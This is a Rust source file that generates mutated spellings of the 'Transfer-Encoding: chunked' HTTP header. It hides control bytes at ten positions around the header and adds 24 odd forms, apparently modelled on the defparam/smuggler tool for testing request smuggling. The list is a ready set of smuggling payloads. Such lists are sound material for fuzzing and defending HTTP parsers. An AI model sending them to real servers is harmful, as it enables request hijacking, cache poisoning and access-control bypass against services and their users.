//! Spellings of `Transfer-Encoding: chunked` that one recipient might take for it and another not, in the manner of the
//! exhaustive list of github.com/defparam/smuggler: a byte in each place where it could hide, and odd forms.

/// The lines, each without its end.
pub fn mutations() -> Vec<Vec<u8>> {
    let bytes = (0x01..=0x20).chain(0x7f..=0x9e);
    let hidden = bytes.flat_map(|byte| {
        let places: [(&[u8], &[u8]); 10] = [
            (b"Transfer-Encoding:", b"chunked"),
            (b"Transfer-Encoding", b": chunked"),
            (b"", b"Transfer-Encoding: chunked"),
            (b"Transfer-Encoding: chunked", b""),
            (b"X: X", b"Transfer-Encoding: chunked"),
            (b"Transfer-Encoding: chunked", b"X: X"),
            (b"X: X\r", b"Transfer-Encoding: chunked"),
            (b"X: X", b"\nTransfer-Encoding: chunked"),
            (b"Transfer-Encoding: chunked\r", b"X: X"),
            (b"Transfer-Encoding: chunked", b"\nX: X"),
        ];
        places.map(|(before, after)| [before, &[byte], after].concat())
    });
    let odd: [&[u8]; 24] = [
        b"Transfer-Encoding:  chunked",
        b"Transfer-Encoding: CHUNKED",
        b"transfer-encoding: chunked",
        b"TRANSFER-ENCODING: chunked",
        b"Transfer-Encoding: chunkedchunked",
        b"Transfer-Encoding: chunk",
        b"Transfer-Encoding: 'chunked'",
        b"Transfer-Encoding: \"chunked\"",
        b"Transfer-Encoding: cow, chunked",
        b"Transfer-Encoding: chunked, cow",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: identity",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked;ext=1",
        b"Transfer_Encoding: chunked",
        b"Transfer Encoding: chunked",
        b"Transfer-Encoding:chunked\r\n chunked",
        b"Transfer-Encoding:\r\n chunked",
        b"Content-Encoding: chunked",
        b"Transfer\\-Encoding: chunked",
        b"Tr\x41nsfer-Encoding: chunked",
        b"Trans\xc2\xadfer-Encoding: chunked",
    ];
    hidden.chain(odd.map(<[u8]>::to_vec)).collect()
}
